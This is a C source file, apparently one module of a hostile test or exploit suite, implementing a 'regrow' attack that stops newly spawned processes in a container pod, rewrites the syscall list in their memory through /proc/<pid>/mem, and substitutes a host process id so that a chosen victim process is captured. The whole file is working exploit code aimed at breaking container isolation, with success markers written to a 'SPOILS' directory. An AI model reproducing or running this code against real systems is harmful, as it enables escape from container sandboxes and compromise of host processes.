/* regrow VICTIM: stops each process that appears in the pod, before it has executed its program,
   and changes its list of calls: it makes what it shares with whoever has started it larger, which
   shows what is next in the same file. If there is more, the process with the id VICTIM, as the
   host sees it, becomes the one that has been started. */
#define _GNU_SOURCE
#include "hostile.h"

#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Of a list: the words before the first entry at most, those of each entry, and how many entries
   are looked at; of an entry, the word that says how its result is taken. */
enum { HEADER = 4, ENTRY = 10, ENTRIES = 400, HOW = 7, MAY_FAIL = 1 };

/* Where init has its report and its list, and where it shall have more than the report. */
static const long REPORT = 0x0f000000, LIST = 0x10000000, MORE = 0x20000000;
enum { PAGE = 4096, GROWN = 64 * PAGE };

/* Finds the last clone(2) of a list, behind which all that is left to do is to become the program.
   Its last flags are those of a process that goes on beside the one that made it. */
static long place_of_clone(const long *words) {
  long found = -1;
  for (long i = 0; i < ENTRY * ENTRIES; i++)
    if (words[i] == SYS_clone && (words[i + 1] & 0xff) == SIGCHLD && words[i + 3] == 0x0f001000)
      found = i;
  return found;
}

/* Has a process that is stopped share more, and wait then. */
static int regrow_in(int memory) {
  static long words[ENTRY * (ENTRIES + 1) + HEADER];
  for (long at = 0; at < (long)sizeof words; at += PAGE)
    if (pread(memory, (char *)words + at, PAGE < sizeof words - at ? PAGE : sizeof words - at,
              LIST + at) <= 0) break;
  long clone = place_of_clone(words);
  if (clone < 0) return 0;
  for (int i = 1; i < 24; i++) {
    long more[ENTRY] = {SYS_mremap, REPORT, PAGE, GROWN, MREMAP_MAYMOVE | MREMAP_FIXED, MORE};
    long wait[ENTRY] = {SYS_ppoll};
    long *entry = i < 8 ? more : wait;
    entry[HOW] = MAY_FAIL;
    if (pwrite(memory, entry, sizeof more, LIST + (clone + i * ENTRY) * 8) < 0) return 0;
  }
  return 1;
}

/* Puts another process in the place of the one that was made. */
static void put_forward(int memory, int victim) {
  long word;
  if (pread(memory, &word, sizeof word, MORE + PAGE) != sizeof word) return;
  close(open(SPOILS "/list", O_CREAT | O_WRONLY, 0666));
  if (pwrite(memory, &victim, sizeof victim, MORE + PAGE) < 0) perror("victim");
}

static void attack(int pid, int victim) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int memory = open(path, O_RDWR);
  usleep(1000);
  int is_changed = memory >= 0 && regrow_in(memory);
  if (is_changed) close(open(SPOILS "/held", O_CREAT | O_WRONLY, 0666));
  kill(pid, SIGCONT);
  usleep(20000);
  if (is_changed) put_forward(memory, victim);
  if (memory >= 0) close(memory);
}

int regrow(int argc, char **argv) {
  if (argc != 2) return 2;
  puts("up");
  for (;;) {
    int last = last_pid();
    for (long i = 0; i < 2000000; i++)
      if (kill(last + 1, SIGSTOP) == 0) {
        attack(last + 1, atoi(argv[1]));
        break;
      }
  }
}
